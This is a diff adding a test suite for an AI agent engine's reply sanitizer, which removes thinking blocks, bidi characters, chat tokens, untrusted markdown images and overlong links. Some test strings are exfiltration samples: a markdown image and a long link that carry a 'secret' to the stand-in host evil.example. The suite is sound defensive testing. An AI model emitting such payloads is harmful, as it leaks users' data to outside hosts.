@@ -1,0 +1,91 @@
+import { deliverySend } from '#libs/contracts';
+import { until } from '#libs/testing';
+import { type EngineWorld, engineWorld, turnOf } from '../testing/engine-under-test.js';
+import { type Script, type StubModel, stubModel } from '../testing/stub-model.js';
+import { type StubServices, stubServices, toolOf, toolsetOf } from '../testing/stub-services.js';
+import { agentOf, turnsOf } from '../testing/turns-of.js';
+
+describe('what a model wrote, on its way out', () => {
+  let world: EngineWorld;
+  let model: StubModel;
+  let services: StubServices;
+  let agentId: string;
+
+  beforeAll(async () => {
+    [world, model, services] = await Promise.all([engineWorld(), stubModel(), stubServices()]);
+    const hosts = ['img.desk.example'];
+    const bound = toolOf({
+      credential_bindings: [{ credential_id: 'crd_1', as: 'desk', skill_id: 'skl_desk', hosts }],
+    });
+    services.on('/internal/toolsets', () => toolsetOf([bound]));
+    await world.start({ MODEL_BASE_URL: model.url, MODEL_NAME: 'stub', MCP_REGISTRY_URL: services.url });
+    agentId = await agentOf(world, { tools: ['search_knowledge'], skills: ['skl_desk'] });
+  });
+  afterAll(async () => {
+    await world.close();
+    await Promise.all([model.close(), services.close()]);
+  });
+
+  const answer = async (script: Script[], input = {}) => {
+    model.script(...script);
+    const turn = turnOf({ agent_id: agentId }, input);
+    return turnsOf(world).run(turn);
+  };
+  const sent = (id: string) =>
+    until('it is offered', async () => (await world.waiting(deliverySend)).find((job) => job.turn_id === id));
+  const messageOf = (message: string) => ({
+    message: { event_type: 'message', sender: 'ada', message, is_bot: false, metadata: {} },
+  });
+
+  it('loses what nobody sees and what carries data away, with notes, and says so', async () => {
+    const said = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
+    const { id, state, reply_text: text } = await answer([said]);
+    const cleaned = '[thinking removed]Done[image removed: evil.example][removed-token]';
+    expect([state, text]).toEqual(['succeeded', cleaned]);
+    expect((await sent(id))?.content?.text).toBe(cleaned);
+    const steps = await world.pool.query('SELECT kind, content FROM engine.step WHERE turn_id = $1 ORDER BY seq', [id]);
+    const taken = { thinking_blocks: 1, bidi_controls: 1, images: 1, chat_tokens: 1 };
+    expect(steps.rows).toEqual([
+      { kind: 'model_call', content: expect.objectContaining({ text: said }) },
+      { kind: 'reply', content: expect.objectContaining({ text: cleaned, cleaned: taken }) },
+    ]);
+    const entry = await until('the timeline says so', async () => {
+      const sql = "SELECT detail FROM journal.entry WHERE subject_id = $1 AND reason = 'reply_cleaned'";
+      return (await world.pool.query(sql, [id])).rows[0];
+    });
+    expect(entry.detail).toEqual({ taken, text: expect.stringContaining('taken out of the answer') });
+  });
+
+  it('shows images of hosts that its Skills bind, and those that the message links, as it links them', async () => {
+    const text = '![a](https://img.desk.example/a.png) ![b](https://x.example/b.png) ![c](https://x.example/?tea)';
+    const { id } = await answer([text], messageOf('What is on https://x.example/b.png?'));
+    expect((await sent(id))?.content?.text).toBe(
+      '![a](https://img.desk.example/a.png) ![b](https://x.example/b.png) [image removed: x.example]',
+    );
+  });
+
+  it('cuts long links but for those that the turn has read', async () => {
+    const [read, own] = ['https://files.example/a?s=', 'https://evil.example/?q='].map((url) => url + 'a'.repeat(300));
+    const { id } = await answer([`Here: ${read} and ${own}`], messageOf(`Repeat ${read}`));
+    expect((await sent(id))?.content?.text).toBe(`Here: ${read} and https://evil.example/[link cut: 303 characters]`);
+  });
+
+  it.each<[string, Script, object]>([
+    ['nothing to say', '<think>Not for me.</think>\nNO_REPLY', { state: 'succeeded', reason: 'nothing_to_say' }],
+    ['no answer', '<think>Hm.', { state: 'failed', error: 'empty_answer' }],
+  ])('is %s where the model only thought', async (_what, script, expected) => {
+    model.always(script);
+    expect(await answer([])).toMatchObject({ ...expected, reply: 'none' });
+    model.always(null);
+  });
+
+  it('leaves ordinary answers alone', async () => {
+    const text = '**Done**: see [the page](https://x.example/?a=b) and `<think>`.\r\nBye';
+    const { id, reply_text } = await answer([text]);
+    expect(reply_text).toBe(text.replace('\r\n', '\n'));
+    const { rows } = await world.pool.query("SELECT content FROM engine.step WHERE turn_id = $1 AND kind = 'reply'", [
+      id,
+    ]);
+    expect(rows[0].content).not.toHaveProperty('cleaned');
+  });
+});
